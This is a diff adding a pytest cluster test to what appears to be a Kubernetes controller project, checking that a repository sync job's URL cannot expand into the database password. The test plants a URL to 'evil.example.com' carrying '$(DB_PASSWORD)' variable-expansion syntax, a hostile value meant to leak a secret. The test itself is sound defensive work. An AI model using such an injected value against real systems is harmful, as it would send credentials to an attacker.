@@ -5,6 +5,10 @@ from typing import Any
 
 import pytest
 
+from catalog.model import SecretRef
+from controller.flags import JobSettings
+from controller.kinds.apprepository import parse
+from controller.manifests import sync_job
 from tests.cluster.fixtures import new_namespace
 from tests.cluster.kube import Document, Kube
 from tests.conftest import Database, until
@@ -75,6 +79,22 @@ def test_the_image_runs_restricted_as_nobody_on_a_file_system_that_it_cannot_wri
 def test_a_worker_starts_restricted_and_says_how_it_is_called(restricted: Pods, command: tuple[str, ...]) -> None:
     assert restricted.run("help", *command, "--help")["exitCode"] == 0
     assert "usage: python -m worker sync NAME URL TYPE --namespace NS" in restricted.log("help")
+
+
+def test_a_job_of_ours_runs_restricted_and_its_url_is_no_way_to_the_databases_password(restricted: Pods) -> None:
+    url = "https://evil.example.com/$(DB_PASSWORD)/$$(DB_PASSWORD)"
+    metadata = {"name": "demo", "namespace": restricted.namespace}
+    desired = parse({"metadata": metadata, "spec": {"type": "helm", "url": url}}, lambda *_: "", "cluster")
+    settings = JobSettings(
+        restricted.image, sync_command="echo", namespace=restricted.namespace, database_secret=SecretRef("pg", "password")
+    )
+    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {**metadata, "name": "pg"}, "stringData": {"password": "canary"}}
+    restricted.kube.create(secret)
+    restricted.kube.create(sync_job(desired, settings, "told", "first"))
+    restricted.kube.kubectl("-n", restricted.namespace, "wait", "--for=condition=Complete", "job/told", "--timeout=60s")
+    told = restricted.log("job/told")
+    assert url in told
+    assert "canary" not in told
 
 
 def test_a_sync_without_a_database_in_reach_ends_as_one_that_may_be_tried_again(restricted: Pods) -> None:
